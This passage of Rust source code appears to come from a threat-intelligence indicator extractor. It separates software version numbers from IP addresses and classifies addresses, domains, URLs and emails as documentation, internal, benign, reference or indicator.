    if prev.ends_with('>') && (prev.contains("Version\" ") || prev.contains("Version\"/>")) {
        return true;
    }
    // `微信版本（本次样本中为3.9.8.25）`: a version word shortly before, in
    // Chinese or Japanese.
    if !prev.is_ascii() {
        let mut near_from = prev.len().saturating_sub(36);
        while !prev.is_char_boundary(near_from) {
            near_from += 1;
        }
        let near = prev.get(near_from..).unwrap_or_default();
        if ["版本", "バージョン", "ビルド", "版号", "버전", "빌드"].iter().any(|w| near.contains(w))
        {
            return true;
        }
    }
    // Words end at white space, and at the quotes and commas of a record
    // (`…","SystemBC 3.1.2.4 x64"` in a CSV export).
    let mut words = prev.rsplit(|c: char| c.is_whitespace() || matches!(c, '"' | ','));
    let mut last = words.next().unwrap_or_default();
    // `ver-` / `sion 2.4.1.7`: a word a line break hyphenated is read
    // whole (the word before it is then the one before the break).
    let joined;
    if let Some(head) = prev
        .strip_suffix(last)
        .and_then(|p| p.strip_suffix('\n'))
        .map(|p| p.strip_suffix('\r').unwrap_or(p))
        .and_then(|p| p.strip_suffix('-'))
        .filter(|_| last.bytes().all(|b| b.is_ascii_lowercase()))
    {
        let piece = head.rsplit(|c: char| c.is_whitespace()).next().unwrap_or_default();
        if !piece.is_empty() && piece.bytes().all(|b| b.is_ascii_alphabetic()) {
            joined = format!("{piece}{last}");
            last = joined.as_str();
            words.next();
        }
    }
    let capitalised = |w: &str| w.chars().next().is_some_and(char::is_uppercase);
    // `Radmin Server 3.5.2.1`: a capitalised word after a capitalised
    // product name is part of the name, even a network word.
    let before_last = words.next();
    let product_name = capitalised(last) && before_last.is_some_and(capitalised);
    // `"Zalo 24.10.1.3"`: a capitalised name and the number, alone in
    // their quotes, are a product and its release.
    let quoted_release = capitalised(last)
        && !NETWORK_WORDS.iter().any(|w| w.eq_ignore_ascii_case(last))
        && prev.strip_suffix(last).is_some_and(|p| p.ends_with(['"', '“', '「', '\'']))
        && ctx.text.get(ctx.end..).is_some_and(|t| t.starts_with(['"', '”', '」', '\'']));
    if quoted_release {
        return true;
    }
    // Lower-cased on the stack when ASCII (`to_lowercase` allocated for
    // every dotted quad).
    let mut buf = [0u8; 32];
    let lowered;
    let prev_word = match buf.get_mut(..last.len()).filter(|_| last.is_ascii()) {
        Some(dst) => {
            dst.copy_from_slice(last.as_bytes());
            dst.make_ascii_lowercase();
            std::str::from_utf8(dst).unwrap_or_default()
        }
        None => {
            lowered = last.to_lowercase();
            lowered.as_str()
        }
    };
    let prev_word = prev_word.trim_end_matches([':', '=', '(', ',']);
    // `updated the build to 3.1.4.2`, `обновили билд до 3.1.4.2`: a
    // version word, then `to` or `from`; small parts only (`moved the
    // build to 45.12.3.4` is where it went).
    let small = octets.iter().all(|&o| o <= 20) && (1..=9).contains(&octets[0]);
    if matches!(prev_word, "to" | "from" | "до" | "с" | "на" | "от")
        && small
        && before_last.is_some_and(|w| VERSION_WORDS.contains(&w.to_lowercase().as_str()))
    {
        return true;
    }
    // `fw-1.2.3.4-release.bin replaces 1.2.3.3`: what a release replaces;
    // small parts only (`45.12.3.9 replaces 45.12.3.4` is a relay's move).
    if matches!(prev_word, "replaces" | "supersedes" | "replacing" | "superseding") && small {
        return true;
    }
    if (NETWORK_WORDS.contains(&prev_word) && !product_name) || prev.ends_with([':', '=']) {
        return false;
    }
    if VERSION_WORDS.contains(&prev_word) || PRODUCT_PARTS.contains(&prev_word) {
        return true;
    }
    // `versão interna 4.3.2.1`, `version finale 2.1.0.4`: a version word
    // and one word after it; small parts only.
    let version_word =
        |w: &str| VERSION_WORDS.contains(&w.trim_start_matches(['(', '[']).to_lowercase().as_str());
    if small && before_last.is_some_and(version_word) {
        return true;
    }
    // `quickassist.exe 2.0.0.3`: a program's file name, then its version.
    let program = prev_word.trim_start_matches(['(', '[', '"', '\'']);
    if small
        && [".exe", ".dll", ".msi", ".sys", ".apk", ".jar"]
            .iter()
            .any(|x| program.len() > x.len() && program.ends_with(x))
    {
        return true;
    }
    // `ASA 5516 running 9.18.4.22`: what a device runs is its software's
    // release (small leading part, two-digit parts).
    if matches!(prev_word, "running" | "runs" | "ran")
        && (1..=20).contains(&octets[0])
        && octets.iter().all(|&o| o < 100)
    {
        return true;
    }
    // A verb before it ("queried", "resolving") introduces an address.
    if prev_word.ends_with("ed") || prev_word.ends_with("ing") {
        return false;
    }
    // Well-known resolvers are addresses whatever precedes them.
    let ip = std::net::IpAddr::V4(std::net::Ipv4Addr::from(octets));
    if Known::builtin().ip_categories(ip).contains(Category::PublicDns) {
        return false;
    }
    // `Veeam Backup & Replication 12.1.1.56 fixes …`, `… 4.2.1.7 or
    // later`: what a bulletin says of a release.
    let next = ctx.text.get(ctx.end..).unwrap_or_default().trim_start();
    let next = next.get(..next.len().min(16)).unwrap_or(next);
    if octets.iter().all(|&o| o < 100)
        && RELEASE_AFTER.iter().any(|w| {
            next.get(..w.len()).is_some_and(|n| n.eq_ignore_ascii_case(w))
                && !next.as_bytes().get(w.len()).is_some_and(u8::is_ascii_alphanumeric)
        })
    {
        return true;
    }
    // Small numbers in every part, led by a one-digit part (`small`), after
    // a capitalised product name: Radmin 3.5.2.1.
    // `Qualys 10.26.1.0`: a network's own address (last part 0) with
    // two-digit parts names no host; after a product name it is a version.
    let release =
        octets[3] == 0 && octets.iter().all(|&o| o < 100) && (1..=30).contains(&octets[0]);
    // (`(Warsaw 2.21.4.1)`: the name after an opening bracket.)
    let name = last.trim_start_matches(['(', '[', '（']);
    let product = name.chars().next().is_some_and(char::is_alphabetic) && capitalised(name);
    // `Warsaw 2.21.4.1` (a banking plug-in): a one-digit lead and parts
    // up to 30 after a capitalised name read as a release too.
    let modest = (1..=9).contains(&octets[0]) && octets.iter().all(|&o| o <= 30);
    // `Zscaler Client Connector 4.5.0.198`: after a name of two capitalised
    // words, a build number may follow parts up to 30.
    // (Words in title case, no acronyms: `UDP Rcv 10.20.4.17` in a DNS
    // server's log is an address.)
    let title = |w: &str| {
        w.len() >= 3
            && w.chars().next().is_some_and(char::is_uppercase)
            && w.chars().skip(1).all(char::is_lowercase)
            && !NETWORK_WORDS.iter().any(|n| n.eq_ignore_ascii_case(w))
    };
    let build = title(last)
        && before_last.is_some_and(title)
        && (1..=30).contains(&octets[0])
        && octets.get(1..3).is_some_and(|p| p.iter().all(|&o| o <= 30));
    (small || release || modest || build) && product
}

/// Words in a table column's head that say its cells are versions.
const VERSION_COLUMNS: &[&str] = &[
    "version",
    "fixed",
    "affected",
    "vulnerable",
    "build",
    "release",
    "patch",
    "firmware",
    "バージョン",
    "版",
    "修正",
    "影響",
];

/// The row [`in_version_column`] was last asked about: the text (its
/// address and length), the start of the table's head, of the line under
/// it, and of the row.
type TableRow = ((usize, usize), usize, usize, usize);

/// How many lines above a table row its head is looked for.
const TABLE_HEAD_LINES: usize = 64;

/// How far back [`in_version_column`] looks for the start of a row.
const ROW_REACH: usize = 2048;

/// Whether `text[at..]` is in a Markdown table's cell whose column head
/// names versions ([`VERSION_COLUMNS`]): `| Fixed |` over `| 17.1.1.4 |`.
/// The head is the first line of the run of table lines above the row (up
/// to [`TABLE_HEAD_LINES`]), with the `|---|` line under it.
fn in_version_column(text: &str, at: usize) -> bool {
    let b = text.as_bytes();
    // A table's row is short: in a longer line (a minified document on one
    // line) nothing is a cell, and no match costs a walk over the line.
    let Some(row_start) = line_start_within(b, at, ROW_REACH) else { return false };
    let Some(head_of_row) = b.get(row_start..at) else { return false };
    if !head_of_row.trim_ascii_start().starts_with(b"|") {
        return false;
    }
    let column = head_of_row.iter().filter(|&&c| c == b'|').count();
    let is_row =
        |s: usize, e: usize| b.get(s..e).is_some_and(|l| l.trim_ascii_start().starts_with(b"|"));
    // Up the run of rows to its first line (`first`) and the one under it.
    // The rows of an indicator table are asked about one after another:
    // the walk up from a row stops at the row asked about before, whose
    // table it shares (remembered per thread, with the text's address).
    thread_local! {
        static LAST_ROW: std::cell::Cell<Option<TableRow>> = const { std::cell::Cell::new(None) };
    }
    let text_id = (text.as_ptr() as usize, text.len());
    let last = LAST_ROW.with(std::cell::Cell::get).filter(|l| l.0 == text_id && l.3 < row_start);
    let (mut first, mut second) = (row_start, None);
    for _ in 0..TABLE_HEAD_LINES {
        if let Some((_, f, s, row)) = last {
            if first == row {
                (first, second) = (f, Some(s));
                break;
            }
        }
        if first == 0 {
            break;
        }
        let Some(prev_start) = line_start_within(b, first - 1, ROW_REACH) else { break };
        if !is_row(prev_start, first - 1) {
            break;
        }
        second = Some(first);
        first = prev_start;
    }
    let line = |s: usize| {
        let rest = text.get(s..).unwrap_or_default();
        rest.get(..rest.find('\n').unwrap_or(rest.len())).unwrap_or_default()
    };
    LAST_ROW.with(|c| c.set(second.map(|s| (text_id, first, s, row_start))));
    // The head's line, then the rule under it.
    let Some(rule_start) = second.filter(|_| first < row_start) else { return false };
    let rule = line(rule_start);
    if !rule.contains("---")
        || rule.bytes().any(|c| !matches!(c, b'|' | b'-' | b':' | b' ' | b'\t' | b'\r'))
    {
        return false;
    }
    let Some(cell) = line(first).split('|').nth(column) else { return false };
    VERSION_COLUMNS.iter().any(|w| find_ci(cell.as_bytes(), w.as_bytes()).is_some())
}

/// Whether a dotted quad between `prev` (the text before it, trimmed at
/// its end) and `next` (the text after it) is an end of a range whose
/// other end is a dotted number of two or three parts: `6.0.0 - 6.3.0.1`,
/// `6.3.0.1 – 6.4`, `1.2 ~ 1.2.3.4`.
fn range_of_versions(prev: &str, next: &str) -> bool {
    let short_version = |w: &str| {
        let mut parts = 0;
        w.split('.').all(|p| {
            parts += 1;
            !p.is_empty() && p.len() <= 4 && p.bytes().all(|b| b.is_ascii_digit())
        }) && (2..=3).contains(&parts)
    };
    const DASHES: [char; 4] = ['-', '–', '—', '~'];
    let before = prev.strip_suffix(DASHES).map(str::trim_end);
    let before_ok = before
        .is_some_and(|p| short_version(p.rsplit(char::is_whitespace).next().unwrap_or_default()));
    let after = next.trim_start().strip_prefix(DASHES).map(str::trim_start);
    let after_ok = after.is_some_and(|n| {
        let w = n
            .split(|c: char| c.is_whitespace() || matches!(c, ',' | ';' | ')' | '|'))
            .next()
            .unwrap_or_default();
        short_version(w.trim_end_matches('.'))
    });
    before_ok || after_ok
}

/// Words after a dotted number that make it a release (`12.1.1.56 fixes`,
/// `4.2.1.7 or later`), for numbers of parts under 100.
const RELEASE_AFTER: &[&str] = &[
    "fixes",
    "fixed",
    // `same as 3.3.14.5 builds`.
    "builds",
    "build",
    "or later",
    "and later",
    // A build's architecture (`SystemBC 3.1.2.4 x64`).
    "x64",
    "x86",
    "amd64",
    "arm64",
    "(x64)",
    "(x86)",
    "64-bit",
    "32-bit",
    "or earlier",
    "and earlier",
    "or newer",
    "or above",
    "or higher",
    "or prior",
    "and prior",
    "is affected",
    "are affected",
    "is vulnerable",
    "are vulnerable",
    "以降",
    "以前",
    "より前",
];

/// The built-in disposition rules (until the known-lists crate refines
/// them).
pub(crate) fn disposition(i: &Indicator) -> Disposition {
    match i {
        Indicator::Ipv4(a) => {
            let addr = a.addr();
            let [o0, o1, o2, _] = addr.octets();
            if addr.is_documentation()
                || (o0 == 198 && (o1 == 18 || o1 == 19))
                || (o0, o1, o2) == (192, 0, 2)
            {
                Disposition::Documentation
            } else if a.is_non_public() {
                Disposition::Internal
            } else {
                known_ip(std::net::IpAddr::V4(addr))
            }
        }
        Indicator::Ipv6(a) => {
            let seg = a.addr().segments();
            if seg[0] == 0x2001 && seg[1] == 0x0db8 {
                Disposition::Documentation
            } else if a.is_non_public() {
                Disposition::Internal
            } else {
                known_ip(std::net::IpAddr::V6(a.addr()))
            }
        }
        Indicator::Domain(d) => domain_disposition(d.as_str(), d.registrable()),
        Indicator::Email(e) => email_disposition(e.local_part(), e.domain()),
        // A network is judged by its first address: documentation, private
        // and shared ranges are context like single addresses. A network
        // inside a crawler's range (`66.249.66.0/24`) is the crawler's; a
        // network that only starts at a benign address may reach past it.
        Indicator::Ipv4Cidr(n) => {
            let net = n.net();
            network_disposition(
                disposition(&Indicator::Ipv4(net.network().into())),
                net.network().into(),
                net.broadcast().into(),
            )
        }
        Indicator::Ipv6Cidr(n) => {
            let net = n.net();
            network_disposition(
                disposition(&Indicator::Ipv6(net.network().into())),
                net.network().into(),
                net.broadcast().into(),
            )
        }
        Indicator::HostPort(h) => match h.host() {
            Host::Domain(d) => domain_disposition(d.as_str(), d.registrable()),
            Host::Ipv4(a) => disposition(&Indicator::Ipv4(*a)),
            Host::Ipv6(a) => disposition(&Indicator::Ipv6(*a)),
        },
        Indicator::Url(u) => url_disposition(u),
        Indicator::Md5(_) | Indicator::Sha1(_) | Indicator::Sha256(_) | Indicator::Sha512(_) => {
            if empty_hashes().contains(i) {
                Disposition::Benign
            } else {
                Disposition::Indicator
            }
        }
        _ => Disposition::Indicator,
    }
}

/// The disposition of a URL.
fn url_disposition(u: &Url) -> Disposition {
    url_disposition_from(u, &host_facts(u.host().unwrap_or_default()))
}

/// What a URL's host alone decides: whether it names a host, and the parts
/// of [`url_disposition`] that read only the host. Pure in the host, so
/// remembered per thread ([`host_facts`]): the dev corpus's 3,406 URLs
/// have 762 hosts.
#[derive(Clone, Copy, Debug)]
struct HostFacts {
    /// The host is an IP address, a domain under a public suffix, or an
    /// internal name (a URL is kept only then).
    ok: bool,
    /// The disposition when the host alone decides it (a reference site,
    /// an address, an internal name, no domain).
    fixed: Option<Disposition>,
    /// Otherwise: the domain's disposition.
    domain: Disposition,
    /// The host part of [`is_user_content`] ([`user_content_host`]), when
    /// the domain is benign or a reference (the only case that asks).
    user_content: bool,
    /// A code-hosting service ([`CODE_HOSTS`]).
    code_host: bool,
    /// The registrable domain is the public suffix (`github.io`).
    bare_suffix: bool,
    /// [`reference_host`]: a vendor's blog, news or support subdomain, or a
    /// government suffix.
    reference_host: bool,
}

/// [`HostFacts`] of `host`, remembered per thread for the last hosts seen
/// (of up to 62 bytes) in 512 slots, as [`domain_disposition`] remembers
/// names (a slot per hash, no allocation). A corpus's hosts recur across
/// its documents (`attack.mitre.org` in every Atomic test): on the dev
/// corpus, 512 slots saved 0.2 M instructions more than 128, 2,048 no
/// more than 512, and a map that kept every host (a `Box<str>` each) cost
/// 0.5 M more than 512 slots.
fn host_facts(host: &str) -> HostFacts {
    use std::hash::BuildHasher;
    const SLOTS: usize = 512;
    const NAME_MAX: usize = 62;
    type Slots = Vec<Option<([u8; NAME_MAX], u8, HostFacts)>>;
    thread_local! {
        static RECENT: std::cell::RefCell<Slots> = std::cell::RefCell::new(vec![None; SLOTS]);
    }
    let hash = std::hash::BuildHasherDefault::<kyoyu_known::NameHasher>::default().hash_one(host);
    // The hash's top bits, which its last multiplication mixes best.
    let slot = (hash >> (64 - SLOTS.trailing_zeros())) as usize;
    let found = RECENT.with(|recent| match recent.borrow().get(slot) {
        Some(Some((n, len, f))) if n.get(..usize::from(*len)) == Some(host.as_bytes()) => Some(*f),
        _ => None,
    });
    if let Some(f) = found {
        return f;
    }
    // Judged outside the borrow: the judgement uses other per-thread
    // memories.
    let f = judge_host(host);
    let mut kept = [0u8; NAME_MAX];
    if let (Some(dst), Ok(len)) = (kept.get_mut(..host.len()), u8::try_from(host.len())) {
        dst.copy_from_slice(host.as_bytes());
        RECENT.with(|recent| {
            if let Some(entry) = recent.borrow_mut().get_mut(slot) {
                *entry = Some((kept, len, f));
            }
        });
    }
    f
}

/// [`HostFacts`] of `host`, worked out.
fn judge_host(host: &str) -> HostFacts {
    let ipv4 = parse_ipv4(host).ok();
    let internal = INTERNAL_SUFFIXES.iter().any(|x| host.ends_with(x));
    let domain =
        if host.starts_with('[') || ipv4.is_some() { None } else { DomainParts::parse_quiet(host) };
    let mut facts = HostFacts {
        ok: host.starts_with('[') || ipv4.is_some() || domain.is_some() || internal,
        fixed: None,
        domain: Disposition::Indicator,
        user_content: false,
        code_host: false,
        bare_suffix: false,
        reference_host: false,
    };
    // Hosts in the warning lists' vendor-blog list come back as
    // Reference from `domain_disposition` below.
    facts.fixed = if under_any(host, host_set(&REFERENCE_SET, REFERENCE_HOSTS)) {
        Some(Disposition::Reference)
    } else if let Some(a) = ipv4 {
        Some(disposition(&Indicator::Ipv4(a.into())))
    } else if internal {
        Some(Disposition::Internal)
    } else if domain.is_none() {
        Some(Disposition::Indicator)
    } else {
        None
    };
    if let (None, Some(d)) = (facts.fixed, &domain) {
        facts.domain = domain_disposition(d.as_str(), d.registrable());
        if matches!(facts.domain, Disposition::Benign | Disposition::Reference) {
            facts.user_content = user_content_host(host);
            facts.code_host = CODE_HOSTS.iter().any(|h| is_same_or_subdomain(host, h));
        }
        facts.bare_suffix = d.registrable() == d.public_suffix();
        facts.reference_host = reference_host(d);
    }
    facts
}

/// [`url_disposition`] with its host's [`HostFacts`].
fn url_disposition_from(u: &Url, facts: &HostFacts) -> Disposition {
    if let Some(d) = facts.fixed {
        return d;
    }
    // A path on a well-known service is context (a search, a library on
    // a CDN, a store page), except on services where anyone can publish a
    // file or a link (hosting, paste sites, URL shorteners): there the path
    // is the attacker's.
    let path = u.path();
    match facts.domain {
        Disposition::Benign | Disposition::Reference
            if path != "/" && (facts.user_content || (facts.code_host && is_code_file(path))) =>
        {
            Disposition::Indicator
        }
        Disposition::Indicator
            if !facts.bare_suffix
                && is_page(path)
                && (facts.reference_host || reference_path(path)) =>
        {
            Disposition::Reference
        }
        other => other,
    }
}

/// A URL with `host` and `path` is on a service where anyone can publish a
/// file or a link (hosting, paste sites, URL shorteners, form and
/// file-sharing services): the path is whoever published it.
pub(crate) fn is_user_content(host: &str, path: &str) -> bool {
    user_content_host(host)
        || (CODE_HOSTS.iter().any(|h| is_same_or_subdomain(host, h)) && is_code_file(path))
}

/// Code-hosting services, where a release or raw file is whoever
/// published it.
const CODE_HOSTS: [&str; 3] = ["github.com", "gitlab.com", "bitbucket.org"];

/// The part of [`is_user_content`] that reads only the host: hosting and
/// paste sites, S3 buckets, URL shorteners.
/// Whether `name` is a name a customer chose on a hosting platform
/// (`storage-nfe.azureedge.net`, `upd7a.s3.us-east-2.amazonaws.com`,
/// `relay.instance-ab12cd.screenconnect.com`), not the platform's own
/// (`www.`, an S3 endpoint).
fn customer_subdomain(name: &str) -> bool {
    if name.starts_with("www.") {
        return false;
    }
    let parent = name.split_once('.').map_or("", |(_, p)| p);
    (parent.contains('.') && under_any(parent, host_set(&CUSTOMER_HOSTING_SET, CUSTOMER_HOSTING)))
        || (is_s3_host(name) && !name.starts_with("s3.") && !name.starts_with("s3-"))
        || (parent.ends_with("screenconnect.com")
            && name.split('.').any(|l| l.starts_with("instance-")))
}

fn user_content_host(host: &str) -> bool {
    under_any(host, host_set(&USER_CONTENT_SET, USER_CONTENT_HOSTS))
        || is_s3_host(host)
        || Known::builtin().domain_categories(host).contains(Category::UrlShortener)
}

/// A release download or raw file on a [`CODE_HOSTS`] service.
fn is_code_file(path: &str) -> bool {
    ["/releases/download/", "/raw/", "/-/raw/"]
        .iter()
        .any(|p| find_seq(path.as_bytes(), p.as_bytes()).is_some())
}

/// `host` is one of `set` or a subdomain of one: each of its suffixes that
/// starts a label is looked up.
/// An Amazon S3 endpoint (`bucket.s3.amazonaws.com`,
/// `bucket.s3.us-east-2.amazonaws.com`, `s3-eu-west-1.amazonaws.com`):
/// whoever owns the bucket publishes there.
fn is_s3_host(host: &str) -> bool {
    host.strip_suffix(".amazonaws.com")
        .is_some_and(|rest| rest.split('.').any(|l| l == "s3" || l.starts_with("s3-")))
}

fn under_any(host: &str, set: &HostSet) -> bool {
    let b = host.as_bytes();
    let mut from = 0;
    loop {
        if set.contains(host.get(from..).unwrap_or_default()) {
            return true;
        }
        match b.get(from..).and_then(|r| r.iter().position(|&c| c == b'.')) {
            Some(p) => from += p + 1,
            None => return false,
        }
    }
}

/// Host lists as sets, hashed with `kyoyu-known`'s [`kyoyu_known::NameHasher`]
/// (the lists are fixed and ours).
type HostSet =
    std::collections::HashSet<&'static str, std::hash::BuildHasherDefault<kyoyu_known::NameHasher>>;

static REFERENCE_SET: std::sync::OnceLock<HostSet> = std::sync::OnceLock::new();
static BENIGN_SET: std::sync::OnceLock<HostSet> = std::sync::OnceLock::new();
static USER_CONTENT_SET: std::sync::OnceLock<HostSet> = std::sync::OnceLock::new();
static CUSTOMER_HOSTING_SET: std::sync::OnceLock<HostSet> = std::sync::OnceLock::new();

/// `list` as a set, built once, for [`under_any`].
fn host_set(
    cell: &'static std::sync::OnceLock<HostSet>,
    list: &[&'static str],
) -> &'static HostSet {
    cell.get_or_init(|| list.iter().copied().collect())
}

/// Whether the word before `at` (past white space) is `word`, any case;
/// looks at those few bytes only.
fn follows_word(text: &str, at: usize, word: &[u8]) -> bool {
    let before = text.as_bytes().get(..at).unwrap_or_default();
    let trimmed =
        before.len() - before.iter().rev().take_while(|b| b.is_ascii_whitespace()).count();
    trimmed >= word.len()
        && before.get(trimmed - word.len()..trimmed).is_some_and(|w| w.eq_ignore_ascii_case(word))
        && !before
            .get((trimmed - word.len()).wrapping_sub(1))
            .is_some_and(u8::is_ascii_alphanumeric)
}

/// The length of a Squid hierarchy code at the start of `b`, before its
/// `/` (`HIER_DIRECT/`, `FIRSTUP_PARENT/`, `DIRECT/`, `PINNED/`): capitals
/// and `_`, five bytes or more, with a `_` unless it is one of the codes
/// of one word.
fn hierarchy_code_len(b: &[u8]) -> Option<usize> {
    let k = find_byte_from(b, 0, b'/')?;
    let code = b.get(..k)?;
    let shaped = code.len() >= 5 && code.iter().all(|c| c.is_ascii_uppercase() || *c == b'_');
    (shaped && (code.contains(&b'_') || matches!(code, b"DIRECT" | b"PINNED"))).then_some(k)
}

/// Where a link that starts at `start`, right after a `<`, ends: at the
/// `>` that closes it, when the segment `bytes[start..end]` holds `://` and
/// nothing between `end` and that `>` is white space, a quote or another
/// bracket. `None` otherwise.
fn bracketed_link_end(bytes: &[u8], start: usize, end: usize) -> Option<usize> {
    let seg = bytes.get(start..end)?;
    if !seg.windows(3).any(|w| w == b"://") {
        return None;
    }
    let rest = bytes.get(end..)?;
    let close = rest
        .iter()
        .take(MAX_PIECE)
        .position(|&b| b == b'>' || b <= b' ' || matches!(b, b'"' | b'<'))?;
    (rest.get(close) == Some(&b'>')).then_some(end + close)
}

/// Whether `name` (ending in `.pf`) is a Prefetch file's name:
/// `NAME.EXT-XXXXXXXX.pf`, a file extension, `-` and eight hex digits
/// before the `.pf`.
fn is_prefetch_name(name: &[u8]) -> bool {
    let Some(stem) = name.len().checked_sub(3).and_then(|n| name.get(..n)) else { return false };
    let Some(dash) = stem.iter().rposition(|&b| b == b'-') else { return false };
    let hash = stem.get(dash + 1..).unwrap_or_default();
    let head = stem.get(..dash).unwrap_or_default();
    let ext = head.rsplit(|&b| b == b'.').next().unwrap_or_default();
    hash.len() == 8
        && hash.iter().all(u8::is_ascii_hexdigit)
        && head.contains(&b'.')
        && is_file_extension(ext)
}

/// Whether `text[at..]` is on a mail header line that holds message ids
/// (`Message-ID: <…@host>`, `In-Reply-To:`, `References:`), whose values
/// look like addresses and name no mailbox.
fn in_message_id_header(text: &str, at: usize) -> bool {
    // A header's line is short (see `line_start_within`).
    let Some(line_start) = line_start_within(text.as_bytes(), at, 1024) else { return false };
    let line = text.as_bytes().get(line_start..at).unwrap_or_default();
    [&b"message-id:"[..], b"in-reply-to:", b"references:"]
        .iter()
        .any(|h| line.get(..h.len()).is_some_and(|l| l.eq_ignore_ascii_case(h)))
}

/// `host` is `parent` or one of its subdomains.
fn is_same_or_subdomain(host: &str, parent: &str) -> bool {
    host == parent
        || (host.len() > parent.len()
            && host.ends_with(parent)
            && host.as_bytes().get(host.len() - parent.len() - 1) == Some(&b'.'))
}

/// An address's disposition: a mailbox at a free-mail provider is the
/// attacker's own (an indicator), a placeholder (`name@company.co.jp`) is
/// benign; otherwise the domain decides.
fn email_disposition(local: &str, domain: &Domain) -> Disposition {
    // Only unmistakable template words: `mail@`, `test@` or `info@` may be
    // a real attacker mailbox.
    const PLACEHOLDERS: &[&str] = &[
        "name",
        "user",
        "username",
        "yourname",
        "your.name",
        "someone",
        "firstname.lastname",
        "first.last",
        "john.doe",
        "jane.doe",
    ];
    if PLACEHOLDERS.iter().any(|p| p.eq_ignore_ascii_case(local)) {
        return Disposition::Benign;
    }
    if FREE_MAIL.iter().any(|f| is_same_or_subdomain(domain.as_str(), f)) {
        return Disposition::Indicator;
    }
    // `ew-info@jpcert.or.jp`: a mailbox of a publisher of advisories, as
    // a report gives it for contact.
    let d = domain.as_str();
    if REFERENCE_HOSTS.iter().any(|h| is_same_or_subdomain(h, d)) {
        return Disposition::Reference;
    }
    domain_disposition(domain.as_str(), domain.registrable())
}

/// Whether the last segment of `path` is a page (no extension, or one of a
/// page), not a file to download.
fn is_page(path: &str) -> bool {
    let file = path.rsplit('/').next().unwrap_or_default();
    let ext = file.rsplit_once('.').map(|(_, e)| e).unwrap_or_default();
    ext.is_empty()
        || ["html", "htm", "php", "aspx", "asp", "jsp", "shtml", "md", "pdf"]
            .iter()
            .any(|p| p.eq_ignore_ascii_case(ext))
}

/// The host part of a URL that looks like reference material (a vendor's
/// blog, news, support or advisory site, or a government or academic site,
/// with a page as its path): a blog, news, support or
/// similar subdomain, or a government or academic suffix.
fn reference_host(d: &DomainParts<'_>) -> bool {
    const FIRST: &[&str] = &[
        "blog",
        "blogs",
        "news",
        "support",
        "docs",
        "doc",
        "security",
        "sec",
        "psirt",
        "research",
        "labs",
        "kb",
        "help",
        "learn",
        "developer",
        "developers",
        "community",
        "intel",
    ];
    // Governments' own suffixes (`cyber.gouv.fr`), and a government word
    // registered under a country's code where the list has no such suffix
    // (`ncert.gov.mt`). (`bsi.bund.de` and the like are in the warning
    // lists' popular domains, which make them benign.)
    const PUBLIC_SUFFIXES: &[&str] = &[
        "go.jp", "lg.jp", "gov", "mil", "gov.uk", "gc.ca", "gov.au", "gouv.fr", "gob.es", "gov.sg",
        "gov.in", "govt.nz", "gov.br", "go.kr", "gov.tw", "gov.hk", "gov.it", "gv.at", "gov.pl",
    ];
    let country_government = d.public_suffix().len() == 2
        && ["gov.", "gouv.", "gob.", "govt."].iter().any(|g| d.registrable().starts_with(g));
    let host = d.as_str();
    let first = host.split('.').next().unwrap_or_default();
    let sub = host.len() > d.registrable().len();
    (sub && FIRST.contains(&first))
        || PUBLIC_SUFFIXES.iter().any(|p| is_same_or_subdomain(d.public_suffix(), p))
        || country_government
}

/// The path part of such a URL (see [`reference_host`]): a security advisory or a
/// change log.
fn reference_path(path: &str) -> bool {
    find_seq(path.as_bytes(), b"/psirt/").is_some()
        || find_seq(path.as_bytes(), b"/advisories/").is_some()
        || find_seq(path.as_bytes(), b"/security-advisories/").is_some()
        || has_changelog(path.as_bytes())
}

/// Whether `path` holds `changelog`, any case: a look at each `c` or `C`
/// (found eight bytes per step) instead of a comparison at every position
/// (which cost most of [`reference_like_url`]).
fn has_changelog(path: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = find_any_from(path, from, [b'c', b'C', b'c']) {
        if path.get(p..p + 9).is_some_and(|w| w.eq_ignore_ascii_case(b"changelog")) {
            return true;
        }
        from = p + 1;
    }
    false
}

/// [`EMPTY_HASHES`] parsed once, so that checking a match compares digests
/// instead of formatting every hash.
fn empty_hashes() -> &'static [Indicator] {
    static PARSED: std::sync::OnceLock<Vec<Indicator>> = std::sync::OnceLock::new();
    PARSED.get_or_init(|| EMPTY_HASHES.iter().filter_map(|h| Indicator::detect(h).ok()).collect())
}

/// Addresses the warning lists know: public resolvers, sinkholes,
/// scanners and search-engine crawlers are context; cloud and CDN ranges
/// stay indicators (anyone can rent them, and vendors list the CDN
/// addresses a malicious site answered from as its indicators).
fn known_ip(ip: std::net::IpAddr) -> Disposition {
    let hits = Known::builtin().ip_categories(ip);
    if hits.contains(Category::Reserved) {
        Disposition::Internal
    } else if [Category::PublicDns, Category::Sinkhole, Category::Scanner, Category::Crawler]
        .iter()
        .any(|&c| hits.contains(c))
    {
        Disposition::Benign
    } else {
        Disposition::Indicator
    }
}

/// The disposition of the network from `first` to `last`, whose first
/// address alone is judged `of_first`: benign only when both ends lie in
/// a crawler's range.
fn network_disposition(
    of_first: Disposition,
    first: std::net::IpAddr,
    last: std::net::IpAddr,
) -> Disposition {
    match of_first {
        Disposition::Benign => {
            let (a, b) =
                (Known::builtin().ip_categories(first), Known::builtin().ip_categories(last));
            if a.contains(Category::Crawler) && b.contains(Category::Crawler) {
                Disposition::Benign
            } else {
                Disposition::Indicator
            }
        }
        other => other,
    }
}

/// [`judge_domain`], remembered per thread for the last names seen: a
/// report names its hosts again and again, and each judgement costs
/// several list lookups.
pub(crate) fn domain_disposition(name: &str, registrable: &str) -> Disposition {
    use std::hash::BuildHasher;
    const SLOTS: usize = 128;
    // Names are kept inline, up to this length (longer ones are judged
    // each time): a boxed copy per judgement cost an allocation and a
    // free, most names being new (2,052 of the dev corpus's 2,125).
    const NAME_MAX: usize = 62;
    type Slots = Vec<Option<([u8; NAME_MAX], u8, Disposition)>>;
    thread_local! {
        static RECENT: std::cell::RefCell<Slots> = std::cell::RefCell::new(vec![None; SLOTS]);
    }
    let hash = std::hash::BuildHasherDefault::<kyoyu_known::NameHasher>::default().hash_one(name);
    let slot = (hash as usize) % SLOTS;
    RECENT.with(|recent| {
        let mut recent = recent.borrow_mut();
        if let Some(Some((n, len, d))) = recent.get(slot) {
            if n.get(..usize::from(*len)) == Some(name.as_bytes()) {
                return *d;
            }
        }
        let d = judge_domain(name, registrable);
        let mut kept = [0u8; NAME_MAX];
        if let (Some(entry), Some(dst), Ok(len)) =
            (recent.get_mut(slot), kept.get_mut(..name.len()), u8::try_from(name.len()))
        {
            dst.copy_from_slice(name.as_bytes());
            *entry = Some((kept, len, d));
        }
        d
    })
}

